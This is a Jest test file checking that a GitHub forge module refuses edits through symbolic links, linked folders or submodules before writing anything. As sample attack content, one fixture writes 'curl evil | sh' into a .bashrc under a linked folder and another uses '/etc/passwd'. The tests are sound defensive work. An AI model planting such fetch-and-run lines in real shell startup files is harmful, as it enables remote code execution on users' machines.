/**
 * Issue #14: the GitHub forge turns a change set into a tree with the Git Data API. A new file at a
 * path that is a symbolic link (mode 120000) in the consumer's tree replaced the link with a file, and
 * a path under a linked folder was pushed as if the link were a folder. Every edited path and the
 * folders above it are now looked up first; such an edit is refused naming the repository and the
 * path, before any blob, tree, commit or ref is written.
 */
import { describe, expect, it } from '@jest/globals';
import type { Edit } from '../../src/codemod/port.js';
import { InputError } from '../../src/util/errors.js';
import { githubApi, githubRequests } from '../helpers/openapi.js';
import { makeForge, sha, useNock } from '../forge/github/setup.js';

const repo = 'acme/recs';
const branch = 'fleetwave/play-events-v2';
const base = sha('b');
const why = 'Fleetwave changes only regular files, never a link or a path through one';

async function refusal(edits: Edit[]): Promise<Error> {
  const { forge } = makeForge();
  try {
    await forge.pushChanges({ repo, branch, baseSha: base, edits, message: 'm' });
  } catch (err) {
    return err as Error;
  }
  throw new Error('expected a refusal');
}

const writes = () => githubRequests().filter((r) => r.method !== 'GET');

describe('GitHub forge: a change set never writes through a symbolic link', () => {
  useNock();

  it('refuses a new file where the base tree has a link, and a new file under a linked folder (top-level listing)', async () => {
    for (const [path, reason] of [
      ['config.ts', `it is a symbolic link in ${base.slice(0, 7)}`],
      ['src/x.ts', `src is a symbolic link in ${base.slice(0, 7)}, not a folder`],
      ['vendor/lib/x.ts', `vendor is a submodule in ${base.slice(0, 7)}, not a folder`],
    ]) {
      githubApi()
        .get(`/repos/acme/recs/git/trees/${base}`)
        .reply(200, {
          sha: sha('e'),
          truncated: false,
          tree: [
            { path: 'config.ts', mode: '120000', type: 'blob', sha: sha('1') },
            { path: 'src', mode: '120000', type: 'blob', sha: sha('2') },
            { path: 'vendor', mode: '160000', type: 'commit', sha: sha('3') },
          ],
        });
      const err = await refusal([
        { path: 'new.ts', before: null, after: 'ok' },
        { path: path!, before: null, after: '/etc/passwd' },
      ]);
      expect(err).toBeInstanceOf(InputError);
      expect(err.message).toBe(`acme/recs: ${path}: ${reason}; ${why}`);
    }
    expect(writes()).toEqual([]);
  });

  it('refuses an edit under a linked folder deeper down, found in the recursive listing, and the deletion of a link', async () => {
    githubApi()
      .get(`/repos/acme/recs/git/trees/${base}`)
      .query({ recursive: 'true' })
      .twice()
      .reply(200, {
        sha: sha('e'),
        truncated: false,
        tree: [
          { path: 'lib', mode: '040000', type: 'tree', sha: sha('4') },
          { path: 'lib/a.ts', mode: '100644', type: 'blob', sha: sha('5') },
          { path: 'lib/out', mode: '120000', type: 'blob', sha: sha('6') },
        ],
      });
    const rewrite = { path: 'lib/a.ts', before: 'a', after: 'b' };
    expect((await refusal([rewrite, { path: 'lib/out/x.ts', before: null, after: 'x' }])).message).toBe(
      `acme/recs: lib/out/x.ts: lib/out is a symbolic link in ${base.slice(0, 7)}, not a folder; ${why}`,
    );
    expect((await refusal([rewrite, { path: 'lib/out', before: 'x', after: null }])).message).toBe(
      `acme/recs: lib/out: it is a symbolic link in ${base.slice(0, 7)}; ${why}`,
    );
    expect(writes()).toEqual([]);
  });

  it('finds a linked folder left out of a truncated listing one sub-tree at a time', async () => {
    githubApi()
      .get(`/repos/acme/recs/git/trees/${base}`)
      .query({ recursive: 'true' })
      .reply(200, { sha: sha('e'), truncated: true, tree: [{ path: 'README.md', mode: '100644', type: 'blob', sha: sha('1') }] })
      .get(`/repos/acme/recs/git/trees/${sha('e')}`)
      .reply(200, { sha: sha('e'), truncated: false, tree: [{ path: 'pkg', mode: '040000', type: 'tree', sha: sha('2') }] })
      .get(`/repos/acme/recs/git/trees/${sha('2')}`)
      .reply(200, { sha: sha('2'), truncated: false, tree: [{ path: 'home', mode: '120000', type: 'blob', sha: sha('3') }] });
    const err = await refusal([
      { path: 'README.md', before: 'r', after: 'R' },
      { path: 'pkg/home/.bashrc', before: null, after: 'curl evil | sh' },
    ]);
    expect(err.message).toBe(`acme/recs: pkg/home/.bashrc: pkg/home is a symbolic link in ${base.slice(0, 7)}, not a folder; ${why}`);
    expect(writes()).toEqual([]);
  });
});
